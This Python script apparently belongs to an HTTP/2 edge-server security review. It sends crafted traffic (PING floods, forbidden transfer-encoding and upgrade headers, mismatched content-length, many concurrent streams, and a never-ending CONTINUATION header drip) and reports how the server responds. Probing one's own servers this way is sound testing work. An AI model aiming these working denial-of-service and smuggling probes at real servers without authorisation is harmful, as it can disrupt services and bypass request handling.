"""More HTTP/2 attacks for the edge review, printed as one JSON line.

  review.py pings HOST:PORT AUTHORITY SECS      prior-knowledge h2 connection that sends no request, only
                                                PINGs every 0.3 s, for SECS; reports when the server closed it
  review.py forbidden HOST:PORT AUTHORITY NAME  POST /public/upload carrying connection-specific header NAME
  review.py cl HOST:PORT AUTHORITY CL           POST /public/upload with `content-length: CL` and a 10-byte body
  review.py streams HOST:PORT AUTHORITY N       N concurrent GET /public/slow streams on one connection; their statuses
  review.py drip HOST:PORT AUTHORITY SECS       a request head that never ends: HEADERS without END_HEADERS, then a
                                                one-byte CONTINUATION every 0.3 s, for SECS; reports when the server closed it
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from attack import read_events


def connect(addr):
    sock = socket.create_connection(addr, timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False, validate_inbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def pings(addr, secs):
    sock, conn = connect(addr)
    sock.settimeout(0.3)
    start = time.time()
    closed_at = None
    while time.time() - start < secs:
        try:
            conn.ping(b"12345678")
            sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            # After the server's GOAWAY the client library refuses to send: the server closed it.
            closed_at = time.time() - start
            break
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            closed_at = time.time() - start
            break
        if not data:
            closed_at = time.time() - start
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            # A GOAWAY followed, in the same read, by frames the closed connection cannot take.
            closed_at = time.time() - start
            break
        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
            closed_at = time.time() - start
            break
        sock.sendall(conn.data_to_send())
    return {"closed_after": closed_at}


def post(addr, authority, extra, body):
    sock, conn = connect(addr)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "POST"), (":path", "/public/upload"), (":scheme", "http"), (":authority", authority)] + extra, end_stream=False)
    conn.send_data(sid, body, end_stream=True)
    sock.sendall(conn.data_to_send())
    status, text = read_events(sock, conn, sid)
    return {"status": status, "body": text}


def streams(addr, authority, n):
    sock, conn = connect(addr)
    ids = []
    for _ in range(n):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":path", "/public/slow"), (":scheme", "http"), (":authority", authority)], end_stream=True)
        ids.append(sid)
    sock.sendall(conn.data_to_send())
    sock.settimeout(30)
    statuses, open_ids = {}, set(ids)
    while open_ids:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                statuses[event.stream_id] = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                open_ids.discard(event.stream_id)
        sock.sendall(conn.data_to_send())
    return {"statuses": [statuses.get(i) for i in ids]}


def drip(addr, authority, secs):
    import hpack
    import hyperframe.frame as hf
    sock = socket.create_connection(addr, timeout=5)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hf.SettingsFrame(0).serialize())
    block = hpack.Encoder().encode([(":method", "GET"), (":path", "/ping"), (":scheme", "http"), (":authority", authority), ("x-pad", "a" * 4000)])
    first = hf.HeadersFrame(1)
    first.flags.add("END_STREAM")
    first.data = block[:10]
    sock.sendall(first.serialize())
    sock.settimeout(0.3)
    start, rest = time.time(), block[10:]
    got, goaway = b"", None
    while time.time() - start < secs:
        if rest:
            cont = hf.ContinuationFrame(1)
            cont.data, rest = rest[:1], rest[1:]
            try:
                sock.sendall(cont.serialize())
            except OSError:
                return {"closed_after": time.time() - start}
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return {"closed_after": time.time() - start}
        if not data:
            return {"closed_after": time.time() - start, "goaway": goaway}
        got += data
        while len(got) >= 9:
            frame, length = hf.Frame.parse_frame_header(memoryview(got[:9]))
            if len(got) < 9 + length:
                break
            frame.parse_body(memoryview(got[9:9 + length]))
            got = got[9 + length:]
            if isinstance(frame, hf.GoAwayFrame):
                goaway = frame.error_code
    return {"closed_after": None, "goaway": goaway}


def main():
    mode, target, authority = sys.argv[1], sys.argv[2], sys.argv[3]
    host, port = target.rsplit(":", 1)
    addr = (host, int(port))
    if mode == "pings":
        out = pings(addr, float(sys.argv[4]))
    elif mode == "forbidden":
        value = "chunked" if sys.argv[4] == "transfer-encoding" else ("websocket" if sys.argv[4] == "upgrade" else "keep-alive")
        out = post(addr, authority, [(sys.argv[4], value)], b"0123456789")
    elif mode == "cl":
        out = post(addr, authority, [("content-length", sys.argv[4])], b"0123456789")
    elif mode == "drip":
        out = drip(addr, authority, float(sys.argv[4]))
    elif mode == "streams":
        out = streams(addr, authority, int(sys.argv[4]))
    else:
        raise SystemExit("unknown mode " + mode)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
